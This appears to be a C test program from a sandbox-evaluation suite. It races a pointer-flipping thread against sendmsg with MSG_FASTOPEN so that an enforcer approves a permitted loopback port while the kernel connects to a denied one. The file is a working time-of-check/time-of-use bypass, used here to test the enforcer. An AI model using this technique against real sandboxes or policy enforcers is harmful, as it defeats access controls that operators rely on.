// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: an address behind a pointer in memory is judged where the kernel reads
 * it, although a second thread changes the pointer (catalogue A11).
 *
 *	caller			flipper			enforcer
 *	sendmsg(message, MSG_FASTOPEN) -------------->	follows message.msg_name:
 *							permitted port
 *				msg_name := &denied
 *	kernel follows msg_name <---------------------	lets the call through
 *				msg_name := &permitted
 *
 * No address is ever changed. The variants are the calls that take messages.
 * Only loopback ports that the laboratory listens on are tried. A win is a
 * connection to the denied port; its listener accepts it.
 */
#include "connection.h"

#include <pthread.h>

static struct sockaddr_in addresses[2];
static struct message message;
static const char *call;
static _Atomic unsigned int turns;
static _Atomic bool stop;

static void *flipper(void *unused)
{
	void *volatile *name = &message.header.msg_hdr.msg_name;

	(void)unused;
	for (unsigned int turn = 1; !atomic_load(&stop); turn++) {
		*name = &addresses[turn & 1];
		atomic_store(&turns, turn);
		flip_pause();
	}
	return NULL;
}

/* Without data, which a reset would take back. */
static long connect_by_message(int fd)
{
	return message_send(call, fd, &message, MSG_FASTOPEN | MSG_NOSIGNAL);
}

static void race(struct run *run)
{
	pthread_t thread;

	race_begin(run);
	if (pthread_create(&thread, NULL, flipper, NULL))
		broken("no second thread");
	widen_caller(run);
	race_to_port(run, &turns, connect_by_message, addresses[1].sin_port);
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
}

static void prepare(const char *how, int first, int second)
{
	int ports[] = { first, second };

	for (int i = 0; i < 2; i++) {
		addresses[i].sin_family = AF_INET;
		addresses[i].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		addresses[i].sin_port = htons(ports[i]);
	}
	message_make(&message, &addresses[0], sizeof(addresses[0]), "");
	call = how;
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		prepare(run.variant, run.allowed_port, run.allowed_port);
		run.limit = BENIGN_ROUNDS;
		race(&run);
		break;
	case MODE_DIRECT:
		prepare("connect", run.port, run.port);
		run.attempts = 1;
		run_result(&run, reach(connect_by_message, addresses[1].sin_port) ? 0 : -1);
		break;
	case MODE_ATTACK:
		prepare(run.variant, run.allowed_port, run.port);
		race(&run);
		break;
	}
	run_end(&run);
}
